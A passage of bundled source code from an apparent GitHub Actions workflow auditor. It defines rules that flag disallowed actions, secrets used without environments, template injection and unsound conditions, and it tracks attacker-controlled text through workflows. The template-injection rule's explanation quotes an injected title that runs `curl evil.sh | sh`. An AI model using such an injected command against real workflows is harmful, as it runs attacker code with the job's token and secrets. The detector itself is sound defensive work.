        '`harden-permissions: forbidden-uses:` to `{allow: [patterns]}` (only matching `uses:` may run, every other is ' +
        'reported) or `{deny: [patterns]}` (matching ones are reported). A pattern is `owner/repo[/path][@ref]`, compared ' +
        'without regard to case except the ref: `owner/repo` is that repository at any ref and no sub-path, ' +
        '`owner/repo/path` that sub-path, `@ref` narrows it to one ref; `*` matches within one part (`actions/setup-*`), a ' +
        'trailing `/*` matches everything below (`github/codeql-action/*` is the repository and every path in it, `octo-org/*` ' +
        'every repository of the owner) and `*` alone matches everything. Local (`./`) and `docker://` uses are not ' +
        'checked, nor what an action itself runs: this reads the `uses:` lines as written.',
    fix: 'Use an allowed action instead, or, when this one is intended, add it to the policy (a reviewed change).',
    before: [
        '# .github/paved-road.yml',
        'harden-permissions:',
        '  forbidden-uses:',
        '    allow: [actions/*, github/codeql-action/*]',
        '',
        '# workflow',
        'steps:',
        '  - uses: someone/deploy-action@v2',
    ].join('\n'),
    after: ['steps:', '  - uses: actions/deploy-pages@v4'].join('\n'),
});
/** `owner/repo[/path]` and the ref of a `uses:` in another repository; undefined for local and docker ones. */
function forbidden_uses_splitUses(uses) {
    const value = uses.trim();
    if (value.startsWith('./') || value.startsWith('../') || value.startsWith('docker://') || !value.includes('/'))
        return undefined;
    const at = value.lastIndexOf('@');
    return at === -1 ? { name: value, ref: undefined } : { name: value.slice(0, at), ref: value.slice(at + 1) };
}
function globPart(pattern, flags) {
    const source = pattern
        .split('*')
        .map((piece) => piece.replace(/[.+?^${}()|[\]\\]/g, '\\$&'))
        .join('[^/]*');
    return new RegExp(`^${source}$`, flags);
}
/** True when `uses` (`owner/repo[/path]@ref`) matches a repository pattern (see the rule's text). */
function usesMatches(pattern, uses) {
    const target = forbidden_uses_splitUses(uses);
    if (!target)
        return false;
    if (pattern.trim() === '*')
        return true;
    const at = pattern.lastIndexOf('@');
    const namePattern = (at === -1 ? pattern : pattern.slice(0, at)).trim().replace(/\/+$/, '');
    const refPattern = at === -1 ? undefined : pattern.slice(at + 1).trim();
    if (refPattern !== undefined && (target.ref === undefined || !globPart(refPattern, '').test(target.ref)))
        return false;
    const name = target.name.replace(/\/+$/, '');
    if (namePattern.endsWith('/*')) {
        // Everything below the prefix, and the prefix itself when it names a repository (`owner/repo/*`).
        const prefix = namePattern.slice(0, -2);
        const prefixParts = prefix.split('/').length;
        const parts = name.split('/');
        if (parts.length < prefixParts)
            return false;
        return globPart(prefix, 'i').test(parts.slice(0, prefixParts).join('/'));
    }
    return globPart(namePattern, 'i').test(name);
}
function verdict(settings, uses) {
    const policy = settings.forbiddenUses;
    if (!policy || !forbidden_uses_splitUses(uses))
        return undefined;
    if ('allow' in policy) {
        if (policy.allow.some((pattern) => usesMatches(pattern, uses)))
            return undefined;
        return `${uses} is not in the policy's forbidden-uses allow list`;
    }
    const denied = policy.deny.find((pattern) => usesMatches(pattern, uses));
    return denied === undefined ? undefined : `${uses} matches ${denied} in the policy's forbidden-uses deny list`;
}
function auditForbiddenUses(wf, settings = {}) {
    if (!settings.forbiddenUses)
        return [];
    const findings = [];
    const check = (uses, where) => {
        const why = verdict(settings, uses.value);
        if (why)
            findings.push(at(wf, forbiddenUsesRule, uses, `${why}. Use an allowed one, or add it to the policy if it is intended.`, where));
    };
    for (const job of wf.jobs) {
        const where = job.composite ? {} : { job };
        if (job.uses)
            check(job.uses, where);
        for (const step of job.steps)
            if (step.uses)
                check(step.uses, { ...where, step });
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/secrets-outside-env.ts


const secretsOutsideEnvRule = rule({
    id: 'secrets-outside-env',
    title: 'A secret is used by a job without an environment',
    severity: 'warning',
    why: 'Repository and organization secrets reach every job of every workflow, whatever branch or pull request started it. ' +
        "An environment's secrets reach only the jobs that name the environment, and only once its protection rules (required " +
        'reviewers, allowed branches, a wait timer) have passed. This audit is opt-in: it runs when the policy sets ' +
        '`harden-permissions: secrets-require-environment:` to `true` (every secret but `GITHUB_TOKEN`, whose rights the ' +
        '`permissions:` blocks decide) or to a list of secret names (only those). It reads the workflow only: a job with an ' +
        '`environment:` is taken to read its secrets from there, so move them there on GitHub too. Reusable workflows ' +
        '(`on: workflow_call`) and jobs that call one are not reported: GitHub gives a called workflow environment secrets ' +
        'only when its caller passes `secrets: inherit` (which `secrets-inherit` reports).',
    fix: 'Create an environment with protection rules, move the secret from the repository or organization into it, and add ' +
        '`environment: <name>` to the job that uses it.',
    before: [
        'jobs:',
        '  deploy:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: ./deploy.sh',
        '        env:',
        '          API_KEY: ${{ secrets.API_KEY }}',
    ].join('\n'),
    after: [
        'jobs:',
        '  deploy:',
        '    runs-on: ubuntu-latest',
        '    environment: production',
        '    steps:',
        '      - run: ./deploy.sh',
        '        env:',
        '          API_KEY: ${{ secrets.API_KEY }}',
    ].join('\n'),
});
/** The secret a context path reads (`secrets.NPM_TOKEN` -> NPM_TOKEN, `secrets` -> `*`), upper-cased. */
function secretName(path) {
    if (path === 'secrets')
        return '*';
    if (!path.startsWith('secrets.'))
        return undefined;
    return path.slice('secrets.'.length).split('.')[0].toUpperCase();
}
/** Every value of the job a `${{ secrets.* }}` can be written in, with where it is. */
function jobPlaces(job) {
    const places = [];
    for (const kv of job.env)
        places.push({ text: kv.value.value, position: kv.value });
    for (const container of [...(job.container ? [job.container] : []), ...job.services]) {
        for (const kv of container.env)
            places.push({ text: kv.value.value, position: kv.value });
        const credentials = container.credentials;
        if (credentials?.username)
            places.push({ text: credentials.username.value, position: credentials.username });
        if (credentials?.password)
            places.push({ text: credentials.password.value, position: credentials.password });
    }
    for (const step of job.steps) {
        if (step.run)
            places.push({ text: step.run.text, position: step.run.position, toPosition: step.run.offsetToPosition, step });
        for (const [, value] of step.with)
            places.push({ text: value.value, position: value, step });
        for (const kv of step.env)
            places.push({ text: kv.value.value, position: kv.value, step });
    }
    return places;
}
function auditSecretsOutsideEnv(wf, settings = {}) {
    const required = settings.secretsRequireEnvironment;
    if (!required || wf.kind !== 'workflow')
        return [];
    if (wf.triggers.some((trigger) => trigger.name === 'workflow_call'))
        return [];
    const named = required === true ? undefined : new Set(required.map((name) => name.toUpperCase()));
    const findings = [];
    for (const job of wf.jobs) {
        if (job.environment || job.uses || job.composite)
            continue;
        for (const place of jobPlaces(job)) {
            for (const found of (0,src/* findExpressions */.zV)(place.text, place.toPosition)) {
                const secrets = new Set();
                for (const path of (0,src/* expressionContexts */.Hu)(found.expression)) {
                    const name = secretName(path);
                    if (name === undefined || name === 'GITHUB_TOKEN')
                        continue;
                    // `secrets[...]` / `toJSON(secrets)` may read any secret, a named one included.
                    if (named && name !== '*' && !named.has(name))
                        continue;
                    secrets.add(name);
                }
                if (!secrets.size)
                    continue;
                const position = found.line !== undefined ? { line: found.line, column: found.column } : { ...place.position };
                const what = [...secrets].map((name) => (name === '*' ? 'the secrets context' : `secret ${name}`)).join(', ');
                findings.push(at(wf, secretsOutsideEnvRule, position, `Job ${job.id} reads ${what} without an environment: the policy asks for it to come from an environment's secrets. Add environment: <name> to the job and move the secret there.`, place.step ? { job, step: place.step } : { job }));
            }
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/template-injection.ts


const templateInjectionRule = rule({
    id: 'template-injection',
    // Runs attacker text as code with the job's token and secrets: critical, above the 7.5 of other errors.
    securitySeverity: 9.0,
    title: 'Attacker-controllable text is expanded into code',
    severity: 'error',
    why: '`${{ }}` is replaced by its value before the shell (or the script) runs, so the value becomes code. A pull request ' +
        'title, a branch name or an issue comment is written by whoever opens it: `"; curl evil.sh | sh; #` in a title runs ' +
        "with the job's token and secrets. Reported as an error when the text comes from an event outsiders can start " +
        '(pull requests, issues, comments, workflow_run, ...), and as a warning when it comes from a string input of ' +
        'workflow_dispatch, workflow_call or a composite action, or from an event only collaborators start (push). ' +
        'SHAs, ids, numbers, step outcomes, job results, boolean, number and choice inputs cannot carry code and are not reported. ' +
        'Text a `run:` step writes to `$GITHUB_OUTPUT` or `$GITHUB_ENV` is followed: `${{ steps.<id>.outputs.<name> }}`, ' +
        '`${{ needs.<job>.outputs.<name> }}` (through job outputs) and `${{ env.NAME }}` of later steps carry it; outputs of actions ' +
        '(ids, SHAs, URLs) are not reported. `${{ matrix.<key> }}` carries the text of the matrix values written with `${{ }}` ' +
        '(an entry, `include:`, or a matrix built with `fromJSON(...)` of a job output or an input); literal entries are clean. ' +
        'Besides `run:`, the inputs of actions that run their value as code are checked (actions/github-script `script`, ' +
        "Amadevus/pwsh-script `script`, mikefarah/yq `cmd`, and the other sinks of CodeQL's Actions models).",
    fix: 'Pass the value to the step through `env:` and use the variable, quoted, in the script (`"$TITLE"`; `process.env.TITLE` ' +
        'in actions/github-script). The shell then treats it as data.',
    before: [
        'on: issues',
        'jobs:',
        '  triage:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: echo "${{ github.event.issue.title }}"',
    ].join('\n'),
    after: [
        'on: issues',
        'jobs:',
        '  triage:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - env:',
        '          TITLE: ${{ github.event.issue.title }}',
        '        run: echo "$TITLE"',
    ].join('\n'),
});
/**
 * Inputs of well-known actions whose value is executed as code (a script, a shell command line, a
 * JavaScript or jq expression, a template the action evaluates), by action (`owner/repo`, lower-case).
 * Besides the script runners, the list holds the sinks of CodeQL's Actions models.
 */
const CODE_INPUTS = {
    'actions/github-script': ['script'],
    'amadevus/pwsh-script': ['script'],
    'cardinalby/js-eval-action': ['expression'],
    'azure/cli': ['inlinescript'],
    'azure/powershell': ['inlinescript'],
    'appleboy/ssh-action': ['script'],
    'nick-fields/retry': ['command'],
    'nick-invision/retry': ['command'],
    'wandalen/wretry.action': ['command'],
    // `options` is pasted into the `docker run` command line, `run` is the container's shell script.
    'addnab/docker-run-action': ['run', 'options'],
    'mikefarah/yq': ['cmd'],
    'devorbitus/yq-action-output': ['cmd'],
    'sergeysova/jq-action': ['cmd'],
    'jannekem/run-python-script-action': ['script'],
    'cypress-io/github-action': ['command', 'build', 'start'],
    'google-github-actions/ssh-compute': ['command'],
    // These evaluate the input as JavaScript (eval, template literals, lodash templates).
    '8398a7/action-slack': ['custom_payload'],
    'gautamkrishnar/blog-post-workflow': ['item_exec'],
    'skitionek/notify-microsoft-teams': ['overwrite'],
    'imjohnbo/issue-bot': ['body', 'linked-comments-previous-issue-text', 'linked-comments-new-issue-text'],
    'roots/issue-closer-action': ['issue-close-message', 'pr-close-message'],
    'lucasbento/auto-close-issues': ['issue-close-message'],
    'tibdex/backport': ['body_template', 'head_template', 'labels_template', 'title_template'],
};
/** How the code an action runs reads an environment variable, for actions whose language is not a POSIX shell. */
const ENV_READS = {
    'actions/github-script': (n) => `process.env.${n}`,
    'cardinalby/js-eval-action': (n) => `process.env.${n}`,
    'amadevus/pwsh-script': (n) => `$env:${n}`,
    'azure/powershell': (n) => `$env:${n}`,
    'jannekem/run-python-script-action': (n) => `os.environ["${n}"]`,
};
/** Event fields that carry free text someone outside the project writes (leaf names). */
const TEXT_FIELDS = new Set([
    'title',
    'body',
    'message',
    'email',
    'head_ref',
    'head_branch',
    'label',
    'description',
    'display_title',
    'page_name',
    'default_branch',
]);
/** Event objects that contain such text: serialising one (`toJSON(github.event.issue)`) carries it too. */
const TEXT_OBJECTS = new Set([
    'github',
    'event',
    'pull_request',
    'issue',
    'comment',
    'review',
    'review_comment',
    'discussion',
    'commits',
    'head_commit',
    'pages',
    'workflow_run',
    'head',
    'labels',
    'author',
    'committer',
    'pusher',
    'pull_requests',
    'client_payload',
    '*',
]);
/**
 * What a job's `run:` steps write to GITHUB_OUTPUT (step outputs) and GITHUB_ENV (env of later steps),
 * when the value written carries attacker text. Only writes read from the script by the shell parser
 * count: outputs of `uses:` steps are not followed (known actions' outputs are ids, SHAs, URLs).
 */
class JobFlows {
    /** `<step id>.<output>` (lower-case) → the step index that wrote it and its taint. */
    outputs = new Map();
    /** Variable → every tainted write, in step order. */
    env = new Map();
    addOutput(stepId, name, index, taint) {
        const key = `${stepId}.${name}`.toLowerCase();
        if (!this.outputs.has(key))
            this.outputs.set(key, { index, taint });
    }
    addEnv(name, index, taint) {
        const list = this.env.get(name) ?? [];
        list.push({ index, taint });
        this.env.set(name, list);
    }
    output(stepId, name, before) {
        const entry = this.outputs.get(`${stepId}.${name}`.toLowerCase());
        return entry && entry.index < before ? entry.taint : undefined;
    }
    /** Variables some step writes to GITHUB_ENV with attacker text. */
    envNames() {
        return this.env.keys();
    }
    envVar(name, before) {
        return this.env.get(name)?.find((entry) => entry.index < before)?.taint;
    }
}
/**
 * Why a context path can carry attacker-written text, or undefined when it cannot (structured and
 * fixed values: SHAs, ids, numbers, `steps.*.outcome`, `needs.*.result`, `github.repository`,
 * boolean / number / choice inputs) or when its origin is not visible in the file (outputs of actions).
 * Step outputs, job outputs and GITHUB_ENV variables written by `run:` steps are followed through
 * `scope.flows` and `scope.needs`; `matrix.*` through the job's matrix (see matrixTaint).
 */
function attackerSource(path, scope, seen = new Set()) {
    const root = path.split('.')[0];
    if (root === 'github') {
        // Property names of contexts are case-insensitive.
        path = path.toLowerCase();
        const segments = path.split('.');
        if (path === 'github.head_ref')
            return { source: { kind: 'event', path } };
        if (segments[1] !== undefined && segments[1] !== 'event')
            return undefined;
        if (segments[2] === 'inputs' && segments.length > 3)
            return inputSource(scope.wf, segments[3], path);
        if (segments[2] === 'client_payload')
            return { source: { kind: 'event', path } };
        const last = segments[segments.length - 1];
        const parent = segments[segments.length - 2];
        if (TEXT_FIELDS.has(last))
            return { source: { kind: 'event', path } };
        if (last === 'name' &&
            parent !== undefined &&
            ['author', 'committer', 'pusher', 'label', 'labels', '*', 'head_commit', 'workflow_run'].includes(parent)) {
            // `labels.*.name` is a label; `*.name` under commits is an author name. `repository.name` is not here.
            if (parent !== '*' || segments.includes('labels') || segments.includes('commits') || segments.includes('pages'))
                return { source: { kind: 'event', path } };
        }
        if (last === 'ref' && parent === 'head')
            return { source: { kind: 'event', path } };
        if (TEXT_OBJECTS.has(last))
            return { source: { kind: 'event', path } };
        return undefined;
    }
    const segments = path.split('.');
    if (root === 'inputs' && segments.length > 1)
        return inputSource(scope.wf, segments[1], path);
    if (root === 'env' && segments.length > 1) {
        const name = segments[1];
        if (seen.has(name))
            return undefined;
        seen.add(name);
        const layers = scope.envLayers;
        const stepEntry = scope.inStep ? lookupEnv([layers[layers.length - 1]], name) : undefined;
        // A step's own env: wins; otherwise a GITHUB_ENV write of an earlier step may have set it.
        if (!stepEntry) {
            const written = scope.flows?.envVar(name, scope.before ?? Infinity);
            if (written)
                return {
                    source: written.source,
                    via: `env.${name} (written to GITHUB_ENV${written.via ? ` from ${written.via}` : ''})`,
                };
        }
        const entry = stepEntry ?? lookupEnv(layers, name);
        if (!entry)
            return undefined;
        const taint = taintOfText(entry.value.value, scope, seen);
        if (taint)
            return { source: taint.source, via: `env.${name}` };
        return undefined;
    }
    if (root === 'steps' && segments.length === 4 && segments[2] === 'outputs') {
        const written = scope.flows?.output(segments[1], segments[3], scope.before ?? Infinity);
        if (written)
            return { source: written.source, via: `${path}${written.via ? ` (from ${written.via})` : ''}` };
        return undefined;
    }
    if (root === 'needs' && segments.length === 4 && segments[2] === 'outputs') {
        const written = scope.needs?.(segments[1], segments[3]);
        if (written)
            return { source: written.source, via: `${path}${written.via ? ` (from ${written.via})` : ''}` };
        return undefined;
    }
    if (root === 'matrix') {
        const taint = matrixTaint(scope, segments.slice(1));
        if (taint)
            return { source: taint.source, via: `${path}${taint.via ? ` (from ${taint.via})` : ''}` };
        return undefined;
    }
    return undefined;
}
/**
 * The taint of `matrix.<segments>`: the values the job's matrix can give it, with `include:` entries.
 * Literal values are clean; a value written with `${{ }}` (one entry, a whole key's list, `include:`,
 * or the whole matrix, typically `fromJSON(needs.<job>.outputs.<name>)`) carries the taint of its
 * expression. Strategy expressions see `github`, `needs`, `vars` and `inputs` only, so they are read
 * without the step's env or earlier steps' outputs.
 */
function matrixTaint(scope, segments) {
    const matrix = scope.matrix;
    if (matrix === undefined || matrix === null)
        return undefined;
    const jobScope = { wf: scope.wf, envLayers: [], ...(scope.needs ? { needs: scope.needs } : {}) };
    const [key, ...rest] = segments;
    if (typeof matrix === 'string' || key === undefined)
        return valueTaint(matrix, rest, jobScope);
    if (typeof matrix !== 'object' || Array.isArray(matrix))
        return undefined;
    const candidates = [];
    for (const [name, value] of Object.entries(matrix)) {
        const lower = name.toLowerCase();
        if (lower === 'exclude')
            continue;
        if (lower === 'include') {
            // `include:` is a list of objects (or an expression giving one): each may set the key.
            if (!Array.isArray(value))
                candidates.push(value);
            else
                for (const entry of value)
                    candidates.push(isPlainObject(entry) ? field(entry, key) : entry);
        }
        else if (lower === key.toLowerCase()) {
            if (Array.isArray(value))
                candidates.push(...value);
            else
                candidates.push(value);
        }
    }
    for (const candidate of candidates) {
        const taint = valueTaint(candidate, rest, jobScope);
        if (taint)
            return taint;
    }
    return undefined;
}
/** The taint of one matrix value read at `segments` below it: its strings' expressions. */
function valueTaint(value, segments, scope) {
    if (typeof value === 'string')
        return taintOfText(value, scope);
    if (Array.isArray(value)) {
        for (const item of value) {
            const taint = valueTaint(item, segments, scope);
            if (taint)
                return taint;
        }
        return undefined;
    }
    if (!isPlainObject(value))
        return undefined;
    const [key, ...rest] = segments;
    if (key !== undefined)
        return valueTaint(field(value, key), rest, scope);
    for (const item of Object.values(value)) {
        const taint = valueTaint(item, [], scope);
        if (taint)
            return taint;
    }
    return undefined;
}
function isPlainObject(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value);
}
/** A property of a matrix object (context property names are case-insensitive). */
function field(object, key) {
    const lower = key.toLowerCase();
    for (const [name, value] of Object.entries(object))
        if (name.toLowerCase() === lower)
            return value;
    return undefined;
}
/** The first attacker source among the `${{ }}` expressions of a text (an env value, a job output). */
function taintOfText(text, scope, seen = new Set()) {
    for (const found of (0,src/* findExpressions */.zV)(text)) {
        for (const inner of (0,src/* expressionValueContexts */.UF)(found.expression)) {
            const source = attackerSource(inner, scope, seen);
            if (source)
                return source;
        }
    }
    return undefined;
}
function inputSource(wf, name, path) {
    const declared = [...wf.triggers.flatMap((t) => t.inputs), ...(wf.action?.inputs ?? [])].filter((input) => input.name.toLowerCase() === name.toLowerCase());
    // Undeclared inputs are unknown strings; declared ones carry text only when some declaration is a string.
    if (declared.length && declared.every((input) => input.type !== 'string'))
        return undefined;
    return { source: { kind: 'input', path } };
}
/** A variable name for the suggested env: entry (`github.event.issue.title` → ISSUE_TITLE). */
function suggestedVariable(path) {
    const parts = path
        .split('.')
        .filter((part) => part !== 'github' && part !== 'event' && part !== '*' && part !== 'env' && part !== 'inputs');
    const name = parts
        .slice(-2)
        .join('_')
        .replace(/[^A-Za-z0-9]+/g, '_')
        .toUpperCase();
    return name || 'VALUE';
}
function targets(wf, job, step) {
    const out = [];
    if (step.run) {
        const shell = ((0,src/* effectiveShell */.oL)(wf, job, step) ?? '').toLowerCase();
        const reads = shell.startsWith('pwsh') || shell.startsWith('powershell')
            ? (n) => `$env:${n}`
            : shell === 'cmd'
                ? (n) => `%${n}%`
                : (n) => `"$${n}"`;
        out.push({ script: step.run, what: 'the run script', reads });
    }
    if (step.uses) {
        const uses = parseUses(step.uses.value);
        const inputs = CODE_INPUTS[uses.name];
        if (inputs) {
            for (const [name] of step.with) {
                if (!inputs.includes(name.toLowerCase()))
                    continue;
                const script = (0,src/* withScript */._L)(wf, step, name);
                if (!script)
                    continue;
                const reads = ENV_READS[uses.name] ?? ((n) => `"$${n}"`);
                out.push({ script, what: `the ${name} input of ${uses.name}`, reads });
            }
        }
    }
    return out;
}
function auditTemplateInjection(wf) {
    const findings = [];
    const outsiders = hasOutsiderTrigger(wf);
    const flows = new Map();
    const jobOutputs = jobOutputTaint(wf, flows);
    for (const job of wf.jobs) {
        const jobFlows = flowsOf(wf, job, flows, jobOutputs);
        job.steps.forEach((step, position) => {
            const scope = {
                wf,
                envLayers: envLayers(wf, job, step),
                inStep: true,
                flows: jobFlows,
                before: position,
                needs: jobOutputs,
                matrix: job.matrix?.value,
            };
            for (const target of targets(wf, job, step)) {
                for (const found of (0,src/* findExpressions */.zV)(target.script.text, target.script.offsetToPosition)) {
                    const finding = injectionFinding(wf, job, step, target, found, scope, outsiders);
                    if (finding)
                        findings.push(finding);
                }
            }
        });
    }
    return findings;
}
/** `needs.<job>.outputs.<name>` → the taint of that job output, computed once per job (cycles read nothing). */
function jobOutputTaint(wf, flows) {
    const visiting = new Set();
    const memo = new Map();
    const lookup = (jobId, output) => {
        const key = `${jobId}.${output}`.toLowerCase();
        if (memo.has(key))
            return memo.get(key);
        const job = wf.jobs.find((j) => j.id.toLowerCase() === jobId.toLowerCase());
        const entry = job?.outputs?.find((o) => o.name.toLowerCase() === output.toLowerCase());
        if (!job || !entry || visiting.has(job.id))
            return undefined;
        visiting.add(job.id);
        const scope = {
            wf,
            envLayers: envLayers(wf, job),
            flows: flowsOf(wf, job, flows, lookup),
            before: Infinity,
            needs: lookup,
            matrix: job.matrix?.value,
        };
        const taint = taintOfText(entry.value.value, scope);
        visiting.delete(job.id);
        memo.set(key, taint);
        return taint;
    };
    return lookup;
}
/** The job's GITHUB_OUTPUT / GITHUB_ENV writes of attacker text, step by step (computed once per job). */
function flowsOf(wf, job, cache, needs) {
    const cached = cache.get(job.id);
    if (cached)
        return cached;
    const flows = new JobFlows();
    cache.set(job.id, flows);
    job.steps.forEach((step, position) => {
        if (!step.run || !/GITHUB_(OUTPUT|ENV)/.test(step.run.text))
            return;
        const shell = ((0,src/* effectiveShell */.oL)(wf, job, step) ?? 'bash').trim().toLowerCase();
        if (!/^(bash|sh)(\s|$)/.test(shell))
            return;
        const scope = {
            wf,
            envLayers: envLayers(wf, job, step),
            inStep: true,
            flows,
            before: position,
            needs,
            matrix: job.matrix?.value,
        };
        // A write carries attacker text only through an expression or a variable of the step's env: when
        // the script has no such expression and no such variable is in scope, nothing it writes can (no parse).
        const envNames = new Set([...scope.envLayers.flatMap((layer) => layer.map((kv) => kv.name)), ...flows.envNames()]);
        if (!taintOfText(step.run.text, scope) && ![...envNames].some((name) => attackerSource(`env.${name}`, scope)))
            return;
        for (const write of commandFileWrites(step.run.text, shell.startsWith('sh'))) {
            const taint = taintOfWrite(write.value, scope);
            if (!taint)
                continue;
            if (write.file === 'GITHUB_OUTPUT') {
                if (step.id)
                    flows.addOutput(step.id, write.name, position, taint);
            }
            else {
                flows.addEnv(write.name, position, taint);
            }
        }
    });
    return flows;
}
/** The taint of a value as written in a shell script: `${{ }}` expressions, and `$VAR` of a tainted env. */
function taintOfWrite(raw, scope) {
    const fromExpression = taintOfText(raw, scope);
    if (fromExpression)
        return fromExpression;
    // Shell variables expand outside single quotes; GitHub's ${{ }} were read above.
    const unquoted = raw.replace(/\$\{\{[\s\S]*?\}\}/g, '').replace(/'[^']*'/g, '');
    for (const match of unquoted.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) {
        const taint = attackerSource(`env.${match[1]}`, scope);
        if (taint)
            return taint;
    }
    return undefined;
}
const COMMAND_FILE = /\bGITHUB_(OUTPUT|ENV)\b/;
/**
 * `name=value` lines a bash / sh script writes to GITHUB_OUTPUT or GITHUB_ENV, found with the shell
 * parser: `echo` / `printf` redirected (`>>`, `>`) to the file, or piped into `tee` naming it, and the
 * multi-line form (`echo "name<<EOF"`, the value lines, `echo EOF`). A script that does not parse has
 * those of the lines that do (see ShellParse.partial).
 */
function commandFileWrites(script, posix = false) {
    const parsed = (0,src/* parseShell */.aV)(script, { posix });
    // A syntax error on one line leaves the writes of the lines that parsed (bash runs those).
    if (!parsed.ok && !parsed.partial)
        return [];
    const out = [];
    const pending = new Map();
    for (const command of parsed.commands) {
        let file;
        let writer = command;
        for (const redirect of (0,src/* writeRedirects */.JA)(command)) {
            const match = COMMAND_FILE.exec(redirect.target.raw);
            if (match)
                file = `GITHUB_${match[1]}`;
        }
        if (!file && command.argv[0]?.literal === 'tee' && command.pipeline && command.pipeline.stage > 0) {
            const match = command.argv
                .slice(1)
                .map((word) => COMMAND_FILE.exec(word.raw))
                .find(Boolean);
            const previous = parsed.pipelines[command.pipeline.index]?.stages[command.pipeline.stage - 1];
            if (match && previous !== undefined && previous !== null) {
                file = `GITHUB_${match[1]}`;
                writer = parsed.commands[previous];
            }
        }
        if (!file)
            continue;
        const name = writer.argv[0]?.literal;
        if (name !== 'echo' && name !== 'printf')
            continue;
        const words = writer.argv.slice(1);
        while (name === 'echo' && words[0]?.literal && /^-[neE]+$/.test(words[0].literal))
            words.shift();
        if (!words.length)
            continue;
        const raw = words.map((word) => word.raw).join(' ');
        const text = words[0].text;
        const open = pending.get(file);
        if (open) {
            if (text === open.delimiter && words.length === 1) {
                out.push({ file, name: open.name, value: open.value.join('\n') });
                pending.delete(file);
            }
            else {
                open.value.push(raw);
            }
            continue;
        }
        const heredoc = /^([A-Za-z_][A-Za-z0-9_.-]*)<<([^\s=]+)$/.exec(text);
        if (heredoc) {
            pending.set(file, { name: heredoc[1], delimiter: heredoc[2], value: [] });
            continue;
        }
        const eq = text.indexOf('=');
        if (eq <= 0 || !/^[A-Za-z_][A-Za-z0-9_.-]*$/.test(text.slice(0, eq)))
            continue;
        // The value with its quoting kept: `'name=$X'` → `'$X'` (single quotes: no expansion).
        const prefix = text.slice(0, eq + 1);
        const at = raw.indexOf(prefix);
        out.push({
            file,
            name: text.slice(0, eq),
            value: at === -1 ? raw.slice(raw.indexOf('=') + 1) : raw.slice(0, at) + raw.slice(at + prefix.length),
        });
    }
    // An unterminated multi-line value still reached the file.
    for (const [file, open] of pending)
        out.push({ file: file, name: open.name, value: open.value.join('\n') });
    return out;
}
function injectionFinding(wf, job, step, target, found, scope, outsiders) {
    const sources = [];
    // Only contexts whose text reaches the value: `contains(github.event.issue.title, 'x')` pastes a boolean.
    for (const path of (0,src/* expressionValueContexts */.UF)(found.expression)) {
        const source = attackerSource(path, scope);
        if (source)
            sources.push({ path, ...source });
    }
    if (!sources.length)
        return undefined;
    const fromEvent = sources.find((s) => s.source.kind === 'event');
    const first = fromEvent ?? sources[0];
    const severity = fromEvent && outsiders && !wf.action ? 'error' : 'warning';
    const origin = first.via ? `${first.via}, set from ${first.source.path}` : first.source.path;
    const who = first.source.kind === 'input'
        ? wf.kind === 'action'
            ? 'any workflow using this action chooses it'
            : 'whoever dispatches or calls the workflow chooses it'
        : severity === 'error'
            ? 'anyone who can open a pull request, issue or comment can write it'
            : 'its author controls it';
    const variable = suggestedVariable(first.via ? first.path : first.source.path);
    const message = `\${{ ${found.expression} }} is expanded into ${target.what} before it runs, and ${origin} is free text (${who}): ` +
        `it can inject code. Pass it through env: (${variable}: \${{ ${found.expression} }}) and use ${target.reads(variable)} instead.`;
    return {
        ...at(wf, templateInjectionRule, { line: found.line, column: found.column, endLine: found.endLine, endColumn: found.endColumn }, message, { job, step }),
        severity,
    };
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/unsound-condition.ts

const unsoundConditionRule = rule({
    id: 'unsound-condition',
    title: 'An `if:` is always true: its `${{ }}` sits in a longer string',
    severity: 'error',
    why: 'GitHub evaluates an `if:` as one expression when it is written bare or as exactly one `${{ }}`. When the `${{ }}` is ' +
        'only part of the value (`${{ x }} && y`, text around it, or a block scalar `if: |` whose value ends with a newline), ' +
        'the value is a string template: the expression is pasted into the text, and a non-empty string is true. The job or ' +
        "step then always runs, whatever the check says, so a guard such as `github.ref == 'refs/heads/main'` guards nothing.",
    fix: 'Write the whole condition in one `${{ }}` or without one (`if: x && y`). For a block scalar, strip the final newline ' +
        'with `|-` or `>-`, or write the condition on the `if:` line.',
    before: [
        'on: push',
        'jobs:',
        '  deploy:',
        '    runs-on: ubuntu-latest',
        '    if: |',
        "      ${{ github.ref == 'refs/heads/main' }}",
        '    steps:',
        '      - run: ./deploy.sh',
    ].join('\n'),
    after: [
        'on: push',
        'jobs:',
        '  deploy:',
        '    runs-on: ubuntu-latest',
        "    if: github.ref == 'refs/heads/main'",
        '    steps:',
        '      - run: ./deploy.sh',
    ].join('\n'),
});
function auditUnsoundCondition(wf) {
    const findings = [];
    for (const placed of conditions(wf)) {
        if (placed.condition.kind !== 'embedded')
            continue;
        const { found } = placed.condition;
        const value = placed.value.value;
        const onlyNewline = found.length === 1 && found[0].start === 0 && /^\s*\n\s*$/.test(value.slice(found[0].end));
        const what = onlyNewline
            ? "the block scalar keeps a newline after the `${{ }}`, so the value is the expression's result followed by a newline"
            : found.length > 1
                ? `the value holds ${found.length} \`\${{ }}\` joined by text, so it is a string`
                : 'the `${{ }}` is only part of the value, so the value is a string';
        const fix = onlyNewline
            ? 'Use `|-` or `>-` (strip the final newline), or write the condition on one line.'
            : 'Write the whole condition in one `${{ }}`, or without `${{ }}`.';
        const who = placed.step ? 'step' : `job ${placed.job.id}`;
        findings.push(at(wf, unsoundConditionRule, placed.value, `This if: is always true: ${what}, and a non-empty string is true, so the ${who} always runs. ${fix}`, { job: placed.job, ...(placed.step ? { step: placed.step } : {}) }));
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/unsound-contains.ts


const unsoundContainsRule = rule({
    id: 'unsound-contains',
    title: '`contains()` over a string tests for a substring, not for one of a list',
    severity: 'error',
    why: "`contains('refs/heads/main refs/heads/release', github.ref)` is true for any substring of that text: " +
        '`refs/heads/m` (a branch named `m`) or `refs/heads/rel` passes too. Where whoever starts the run picks the value (a branch or tag name, ' +
        '`github.actor`, an input, an env variable), the check can be bypassed, and what it guards (a deploy, secrets) runs for ' +
